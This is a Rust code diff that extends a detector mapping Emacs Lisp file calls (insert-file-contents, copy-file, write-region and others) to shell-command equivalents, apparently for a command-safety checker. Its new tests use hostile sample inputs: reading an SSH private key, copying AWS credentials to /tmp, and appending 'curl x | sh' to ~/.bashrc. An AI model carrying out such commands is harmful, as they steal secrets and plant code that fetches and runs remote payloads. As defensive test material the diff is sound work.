@@ -919,6 +919,41 @@ fn elisp_commands(code: &str) -> Vec<String> {
                 .cloned()
                 .flatten()
                 .map(|f| format!("rm -f -- {}", quoted_path(&f))),
+            // A file read into a buffer, which the code may then print or send.
+            "insert-file-contents"
+            | "insert-file-contents-literally"
+            | "find-file"
+            | "find-file-noselect"
+            | "find-file-literally" => args
+                .first()
+                .cloned()
+                .flatten()
+                .map(|f| format!("cat -- {}", quoted_path(&f))),
+            "copy-file" | "copy-directory" | "rename-file" | "make-symbolic-link"
+            | "add-name-to-file" => match (args.first(), args.get(1)) {
+                (Some(Some(from)), Some(Some(to))) => {
+                    let verb = match call {
+                        "copy-file" => "cp",
+                        "copy-directory" => "cp -r",
+                        "rename-file" => "mv",
+                        "make-symbolic-link" => "ln -s",
+                        _ => "ln",
+                    };
+                    Some(format!(
+                        "{verb} -- {} {}",
+                        quoted_path(from),
+                        quoted_path(to)
+                    ))
+                }
+                _ => None,
+            },
+            // (write-region START END FILE APPEND): the region, or the string START, into FILE.
+            "write-region" | "append-to-file" => args.get(2).cloned().flatten().map(|f| {
+                let append = call == "append-to-file" || args.get(3).is_some_and(|a| a.is_none());
+                let to = if append { ">>" } else { ">" };
+                let text = args.first().cloned().flatten().unwrap_or_default();
+                format!("printf %s {} {to} {}", quoted(&text), quoted_path(&f))
+            }),
             _ => None,
         };
         out.extend(line.as_deref().map(line_if_any).unwrap_or_default());
@@ -926,7 +961,8 @@ fn elisp_commands(code: &str) -> Vec<String> {
     out
 }
 
-/// Emacs Lisp calls whose arguments name a command or a file to delete.
+/// Emacs Lisp calls whose arguments name a command, or a file they delete, read, copy, move,
+/// link or write.
 const ELISP_CALLS: &[&str] = &[
     "shell-command",
     "async-shell-command",
@@ -937,6 +973,18 @@ const ELISP_CALLS: &[&str] = &[
     "process-lines",
     "delete-directory",
     "delete-file",
+    "insert-file-contents",
+    "insert-file-contents-literally",
+    "find-file",
+    "find-file-noselect",
+    "find-file-literally",
+    "copy-file",
+    "copy-directory",
+    "rename-file",
+    "make-symbolic-link",
+    "add-name-to-file",
+    "write-region",
+    "append-to-file",
 ];
 
 /// The arguments of an Emacs Lisp call up to its `)`: each string literal's text, `None` for
@@ -1245,6 +1293,34 @@ mod tests {
         assert_eq!(run("gdb -x", "break main\nrun\nbt"), Vec::<String>::new());
         assert_eq!(file_commands("gdb -q", "shell id"), None);
         assert_eq!(file_commands("bash", "id"), None);
+    }
+
+    #[test]
+    fn elisp_file_calls_are_their_shell_commands() {
+        assert_eq!(
+            elisp_commands(
+                "(progn (insert-file-contents \"~/.ssh/id_rsa\") (princ (buffer-string)))"
+            ),
+            ["cat -- ~'/.ssh/id_rsa'"]
+        );
+        assert_eq!(
+            elisp_commands("(copy-file \"~/.aws/credentials\" \"/tmp/c\" t)"),
+            ["cp -- ~'/.aws/credentials' '/tmp/c'"]
+        );
+        assert_eq!(
+            elisp_commands("(rename-file \"src\" \"/tmp/src\")"),
+            ["mv -- 'src' '/tmp/src'"]
+        );
+        assert_eq!(
+            elisp_commands("(write-region \"curl x | sh\" nil \"~/.bashrc\" t)"),
+            ["printf %s 'curl x | sh' >> ~'/.bashrc'"]
+        );
+        assert_eq!(
+            elisp_commands("(write-region (point-min) (point-max) \"out.txt\")"),
+            Vec::<String>::new(),
+            "a region given by expressions ends the reading of the arguments"
+        );
+        assert!(elisp_commands("(message (buffer-name))").is_empty());
     }
 
     #[test]
